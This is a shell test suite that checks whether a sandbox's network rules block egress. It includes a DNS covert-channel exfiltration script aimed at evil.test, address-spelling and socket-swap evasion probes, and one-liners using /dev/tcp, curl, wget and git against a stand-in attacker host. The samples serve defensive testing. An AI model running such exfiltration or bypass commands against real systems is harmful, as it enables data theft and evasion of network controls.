#!/usr/bin/env bats
# shellcheck disable=SC2034 # variables are read by world.bash
# The network (ATTACKS F): in a host and an internet of the test's own (tests/lib/world.py). What is attacked is 203.0.113.10, evil.test, private and
# metadata addresses; api.example.com (203.0.113.9) is allowed. The internet writes down every packet that reaches it.

setup_file() {
  export T=${T:-$BATS_FILE_TMPDIR}
  load ../cli/common
  load ../lib/world
  [ -d "$T/tests" ] || cp -r "$BUILD/tests" "$T/tests"
  export TESTS=$T/tests
  chmod 755 "$T"
  world_up
}

teardown_file() {
  load ../lib/world
  world_down
}

setup() {
  load ../cli/common
  load ../lib/world
  load ../lib/races
  TESTS=$T/tests
  ATTACK=$TESTS/attack
  export ATTACK_SECONDS=${ATTACK_SECONDS:-0.3}
  NOT=
}

# What only a namespace of the guest's own gives: loopback servers, interfaces (docs/LIMITS.md).
spaced() { NOT=bare each_mode "$@"; }

# Forgets what the internet saw, once the last packets of what ran before (the ends of its connections) are there.
forget() {
  sleep 0.3
  : >"$W/packets"
  : >"$W/dns.log"
}

# Fails if the internet saw a packet that matches $1.
unseen() {
  sleep 0.1
  if grep -aqE "$1" "$W/packets" "$W/dns.log"; then
    echo "seen outside: $(grep -aE "$1" "$W/packets" "$W/dns.log" | head -n 3)" >&2
    return 1
  fi
}

seen() {
  sleep 0.1
  grep -aqE "$1" "$W/packets" "$W/dns.log" || { echo "not seen outside: $1" >&2; return 1; }
}

fetch='import socket, sys
host, port = sys.argv[1], int(sys.argv[2])
try:
    s = socket.create_connection((host, port))
    s.sendall(b"GET /hello HTTP/1.0\r\n\r\n")
    print("reached" if b"hello" in s.makefile("rb").read() else "no answer")
except OSError as e:
    print(type(e).__name__ if isinstance(e, socket.gaierror) else e.strerror)'

@test "F1 another address, port or name than the rule's is refused at once" {
  t() {
    local mode=$1
    is reached "$(in_world "$mode" python3 -c "$fetch" 203.0.113.10 80)" "natively" || return 1
    forget
    is "Permission denied" "$(inside "$mode" --net api.example.com -- python3 -c "$fetch" 203.0.113.10 80)" "another host" || return 1
    is "Permission denied" "$(inside "$mode" --net api.example.com -- python3 -c "$fetch" 203.0.113.9 80)" "the host's address, not named" || return 1
    is "Permission denied" "$(inside "$mode" --net api.example.com -- python3 -c "$fetch" api.example.com 8080)" "another port" || return 1
    unseen '203\.0\.113\.(9|10) ' || return 1
    is reached "$(inside "$mode" --net api.example.com:8080 -- python3 -c "$fetch" api.example.com 8080)" "permitted"
  }
  each_mode each_way_in t
}

# For functions that take the mode last.
each_way_in() {
  local WAY
  for WAY in auto all; do "$@" || { echo "--mediate $WAY" >&2; return 1; }; done
}

@test "F1 addresses and networks by rules, where there are no namespaces as well" {
  t() {
    local mode=$1
    is "Permission denied" "$(inside "$mode" --net 203.0.113.9:80 -- python3 -c "$fetch" 203.0.113.10 80)" "refused" || return 1
    is "Permission denied" "$(inside "$mode" --net 203.0.113.9:80 -- python3 -c "$fetch" 203.0.113.9 8080)" "another port" || return 1
    is reached "$(inside "$mode" --net 203.0.113.9:80 -- python3 -c "$fetch" 203.0.113.9 80)" "permitted" || return 1
    is reached "$(inside "$mode" --net 203.0.113.0/24:8000-8100 -- python3 -c "$fetch" 203.0.113.10 8080)" "a network"
  }
  each_mode each_way_in t
}

exfil='import socket, struct, sys
secret = "c0vert"
def query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for l in name.split("."): q += bytes([len(l)]) + l.encode()
    return q + b"\0\0\x01\0\x01"
def t(f):
    try: f()
    except OSError: pass
t(lambda: socket.getaddrinfo(secret + "1.evil.test", 80))
t(lambda: socket.gethostbyname(secret + "2.api.example.com"))
t(lambda: socket.gethostbyname((secret + "3") * 5 + "." + "x" * 60 + ".evil.test"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for a in ("203.0.113.53", "203.0.113.10", "198.18.0.1", "8.8.8.8"):
    t(lambda: u.sendto(query(secret + "4.evil.test"), (a, 53)))
    def tcp():
        s = socket.create_connection((a, 53), 2); q = query(secret + "5.evil.test"); s.sendall(struct.pack(">H", len(q)) + q); s.recv(100)
    t(tcp)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t(lambda: (c.connect(("203.0.113.53", 53)), c.send(query(secret + "6.evil.test"))))'

@test "F2 names are no covert channel: no query of the guest's leaves" {
  t() {
    local mode=$1
    forget
    in_world "$mode" python3 -c "$exfil"
    seen c0vert4 && seen c0vert1 || return 1
    forget
    inside "$mode" --net api.example.com -- python3 -c "$exfil"
    unseen c0vert || return 1
    is 0 "$(wc -l <"$W/dns.log")" "names asked for outside"
  }
  each_mode each_way_in t
}

@test "F2 an allowed name is asked for as it is allowed, and its answers do not come from outside" {
  t() {
    forget
    is reached "$(inside "$1" --net api.example.com -- python3 -c "$fetch" API.example.com 80)" "permitted" || return 1
    is api.example.com "$(sort -u "$W/dns.log")" "names asked for outside"
  }
  each_mode t
}

@test "F3 no rules, no network" {
  t() {
    local mode=$1 out
    forget
    for to in 203.0.113.9 203.0.113.10 api.example.com evil.test 2001:db8::9; do
      out=$(inside "$mode" -- python3 -c "$fetch" "$to" 80)
      [ "$out" != reached ] || { echo "$to" >&2; return 1; }
    done
    unseen "203\.0\.113|2001:db8::9"
  }
  each_mode each_way_in t
}

spell='import socket, struct, sys
def t(family, address, dgram=False):
    s = socket.socket(family, socket.SOCK_DGRAM if dgram else socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        if dgram:
            s.sendto(b"x", address); s.recv(10)
        else:
            s.connect(address); s.sendall(b"x"); s.recv(10)
        return True
    except OSError: return False
four, six = socket.AF_INET, socket.AF_INET6
got = []
for name, a in (("dotted", "10.1.2.3"), ("short", "10.66051"), ("number", "167838211"), ("hex", "0x0a010203"), ("octal", "012.1.2.3")):
    try: real = socket.gethostbyname(a)
    except OSError: continue
    if t(four, (real, 7)): got.append(name)
    if t(four, (real, 7), True): got.append(name + "/udp")
for name, a in (("mapped", "::ffff:10.1.2.3"), ("mapped in figures", "::ffff:a01:203"), ("compatible", "::10.1.2.3"), ("6to4", "2002:a01:203::1"),
                ("nat64", "64:ff9b::10.1.2.3")):
    if t(six, (a, 7, 0, 0)): got.append(name)
    if t(six, (a, 7, 0, 0), True): got.append(name + "/udp")
print(",".join(got) or "none")'

@test "F4 one verdict for every spelling of an address" {
  t() {
    local mode=$1 all="dotted,dotted/udp,short,short/udp,number,number/udp,hex,hex/udp,octal,octal/udp,mapped,mapped/udp,mapped in figures,mapped in figures/udp"
    is "$all" "$(in_world "$mode" python3 -c "$spell")" "natively" || return 1
    forget
    is none "$(inside "$mode" --net 203.0.113.0/24:7 --net 203.0.113.0/24:7/udp --net 0.0.0.0/0:7 --net "[::]/0:7" -- python3 -c "$spell")" inside || return 1
    unseen ' 10\.1\.2\.3 ' || return 1
    is "$all" "$(inside "$mode" --net 10.1.0.0/16:7 --net 10.1.0.0/16:7/udp -- python3 -c "$spell")" permitted
  }
  each_mode each_way_in t
}

udp='import socket, sys
got = []
bad = ("203.0.113.10", 7)
def answered(s):
    s.settimeout(0.5)
    try: return s.recvfrom(10)[1] == bad
    except OSError: return False
def t(name, f):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        f(s)
    except OSError: pass
    if answered(s): got.append(name)
t("sendto", lambda s: s.sendto(b"x", bad))
t("sendmsg", lambda s: s.sendmsg([b"x"], [], 0, bad))
t("connect", lambda s: (s.connect(bad), s.send(b"x")))
def again(s):
    s.connect(("203.0.113.9", 7)); s.send(b"y"); s.settimeout(1); s.recv(10)
    s.connect(bad); s.send(b"x")
t("connected anew", again)
def unspec(s):
    import ctypes
    s.connect(("203.0.113.9", 7))
    ctypes.CDLL(None).connect(s.fileno(), b"\0" * 16, 16)
    s.sendto(b"x", bad)
t("disconnected", unspec)
print(",".join(got) or "none")'

@test "F5 datagrams are policed however they are addressed" {
  t() {
    local mode=$1
    is "sendto,sendmsg,connect,connected anew,disconnected" "$(in_world "$mode" python3 -c "$udp")" natively || return 1
    forget
    is none "$(inside "$mode" --net 203.0.113.9:7/udp -- python3 -c "$udp")" inside || return 1
    unseen '203\.0\.113\.10 ' || return 1
    is "sendto,sendmsg,connect,connected anew,disconnected" "$(inside "$mode" --net 203.0.113.0/24:7/udp -- python3 -c "$udp")" permitted
  }
  each_mode each_way_in t
}

swap() {
  local mode=$1 how=$2 who=$3 proto=
  case $how in send*) proto=/udp ;; esac
  won in_world "$mode" "$ATTACK/addr_swap" "$how" "$who" 203.0.113.9 203.0.113.10 7 >/dev/null || { echo "natively: $how $who" >&2; return 1; }
  forget
  local status=0
  inside "$mode" --net "203.0.113.9:7$proto" -- "$ATTACK/addr_swap" "$how" "$who" 203.0.113.9 203.0.113.10 7 >/dev/null || status=$?
  is 1 "$status" "inside: $how $who" || return 1
  unseen '203\.0\.113\.10 ' || return 1
  won inside "$mode" --net "203.0.113.0/24:7$proto" -- "$ATTACK/addr_swap" "$how" "$who" 203.0.113.9 203.0.113.10 7 >/dev/null ||
    { echo "permitted: $how $who" >&2; return 1; }
}

@test "A5, A6 an address swapped by a thread under connect and sends" {
  t() {
    local how
    for how in connect start sendto sendmsg sendmmsg fastopen; do swap "$1" "$how" thread || return 1; done
  }
  each_mode each_way_in t
}

@test "A5, A6 an address swapped by another process" {
  t() {
    local how
    for how in connect sendto sendmsg; do swap "$1" "$how" process || return 1; done
  }
  each_mode each_way_in t
}

@test "F6 nothing the guest binds takes what is meant for the relay, and nobody outside reaches it" {
  bind='import socket
out = []
for a, port in (("198.18.0.1", 53), ("203.0.113.9", 80), ("198.18.9.9", 443)):
    s = socket.socket()
    try: s.bind((a, port)); out.append("bound " + a)
    except OSError as e: out.append(e.strerror)
s = socket.socket(); s.setsockopt(socket.SOL_IP, 15, 1)
try: s.bind(("203.0.113.9", 80)); s.listen()
except OSError: pass
w = socket.socket(); w.bind(("0.0.0.0", 8443)); w.listen()
c = socket.create_connection(("203.0.113.9", 80), 3); c.sendall(b"GET /hello HTTP/1.0\r\n\r\n")
out.append("relay answers" if b"hello" in c.makefile("rb").read() else "stolen")
o = socket.create_connection(("127.0.0.1", 8443)); w.accept(); out.append("own server")
print(",".join(out))'
  t() {
    is "Cannot assign requested address,Cannot assign requested address,Cannot assign requested address,relay answers,own server" \
      "$(inside "$1" --net 203.0.113.9:80 --net 203.0.113.9:8443 -- python3 -c "$bind")" inside
  }
  spaced each_way_in t
}

@test "F7 families and protocols without a use are refused, and the interface cannot be changed" {
  odd='import socket
out = []
for f, t, p in ((17, 3, 3), (40, 1, 0), (38, 5, 0), (44, 3, 0), (31, 1, 0), (30, 1, 0), (43, 1, 0), (15, 3, 2), (2, 3, 1), (2, 2, 1), (2, 1, 262), (2, 1, 132), (10, 3, 58), (16, 3, 16)):
    try: socket.socket(f, t, p); out.append("%d/%d" % (f, p))
    except OSError: pass
print(",".join(out) or "none")'
  u() {
    is none "$(inside "$1" --net api.example.com -- python3 -c "$odd")" inside || return 1
    # What asks is let: addresses and routes.
    inside "$1" --net api.example.com -- sh -c 'ip addr && ip route get 203.0.113.9' | grep -q 127.0.0.1
  }
  each_mode u || return 1
  t() {
    inside "$1" --net api.example.com -- sh -c 'ip link set eth0 down || ip route add 203.0.113.10 dev lo || ip addr add 198.18.0.9/32 dev eth0' 2>/dev/null &&
      { echo "the interface was changed" >&2; return 1; }
    inside "$1" --net api.example.com -- ip addr | grep -q 198.18.0.2
  }
  spaced t
}

@test "F10 a redirected socket says the peer it was connected to, and no other options" {
  truth='import socket
s = socket.create_connection(("203.0.113.9", 7), 3)
print(s.getpeername()[0], s.getpeername()[1], s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), s.getsockname()[0] != "127.0.0.1")
for level, option, value in ((1, 36, 7),):
    try: s.setsockopt(level, option, value); print("set")
    except OSError as e: print(e.strerror)
try: print(s.getsockopt(0, 80, 16))
except OSError as e: print(e.strerror)'
  t() {
    is "203.0.113.9 7 0 True
Operation not permitted
No such file or directory" "$(inside "$1" --net 203.0.113.9:7 -- python3 -c "$truth" | sed 's/Protocol not available/No such file or directory/')" inside
  }
  each_mode t
}

@test "F12 metadata, private addresses and the host's loopback are out of reach" {
  t() {
    local mode=$1 to
    for to in "169.254.169.254 80" "10.1.2.3 80" "meta.example.com 80" "private.example.com 80"; do
      # shellcheck disable=SC2086 # two words
      is reached "$(in_world "$mode" python3 -c "$fetch" $to)" "natively $to" || return 1
      forget
      # shellcheck disable=SC2086
      is "Permission denied" "$(inside "$mode" --net '*.example.com' --net 0.0.0.0/0 --net ::/0 -- python3 -c "$fetch" $to)" "$to" || return 1
      unseen ' (169\.254\.169\.254|10\.1\.2\.3) ' || return 1
    done
    is reached "$(inside "$mode" --net meta.example.com --net 169.254.169.254 -- python3 -c "$fetch" meta.example.com 80)" permitted
  }
  each_mode each_way_in t
}

loopback='import socket, sys
try:
    s = socket.create_connection((sys.argv[1], 5432)); s.sendall(b"x"); print("reached" if s.recv(1) else "nobody")
except OSError as e: print(e.strerror)'

@test "F12 the host's loopback is reached by its own name's rule only" {
  t() {
    local mode=$1
    is reached "$(in_world "$mode" python3 -c "$loopback" 127.0.0.1)" natively || return 1
    # Without namespaces there is no loopback but the host's.
    local own="Connection refused"
    [ "$mode" != bare ] || own="Permission denied"
    is "$own" "$(inside "$mode" --net '*.example.com:5432' -- python3 -c "$loopback" 127.0.0.1)" "its own loopback" || return 1
    is "Permission denied" "$(inside "$mode" --net '*.example.com:5432' -- python3 -c "$loopback" loop.example.com)" "a name of it" || return 1
    is "Permission denied" "$(inside "$mode" --net '*.example.com:5432' -- python3 -c "$loopback" mapped.example.com)" "a name of it" || return 1
    is reached "$(inside "$mode" --net host.gabion.internal:5432 -- python3 -c "$loopback" host.gabion.internal)" permitted
  }
  each_mode each_way_in t
}

@test "F13 a name that changes its mind leads to no private address" {
  again='import socket, sys, time
out = []
for i in range(3):
    try:
        s = socket.create_connection(("rebind.example.com", 80)); s.sendall(b"GET /hello HTTP/1.0\r\n\r\n"); out.append("reached" if b"hello" in s.makefile("rb").read() else "-")
    except OSError as e: out.append(e.strerror)
    time.sleep(1.2)
print(",".join(out))'
  t() {
    forget
    out=$(inside "$1" --net '*.example.com:80' -- python3 -c "$again")
    unseen ' 10\.1\.2\.3 ' || return 1
    [[ $out == *"Permission denied" ]] || { echo "$out" >&2; return 1; }
  }
  each_mode t
}

@test "F14 the usual ways out of a run without rules are shut" {
  t() {
    local mode=$1 way
    for way in 'exec 3<>/dev/tcp/203.0.113.10/80' 'curl -sS -m 5 http://203.0.113.10/hello' 'curl -sS -m 5 --noproxy "*" http://evil.test/hello' \
      'getent hosts evil.test' 'wget -T 5 -t 1 -qO- http://203.0.113.10/hello' 'git -c http.lowSpeedTime=5 clone http://203.0.113.10/repo.git'; do
      forget
      inside "$mode" -- bash -c "$way" >/dev/null 2>&1 && { echo "$way" >&2; return 1; }
      unseen '203\.0\.113\.10 ' || return 1
    done
    in_world "$mode" bash -c 'exec 3<>/dev/tcp/203.0.113.10/80' && in_world "$mode" curl -sS http://evil.test/hello >/dev/null
  }
  each_mode t
}
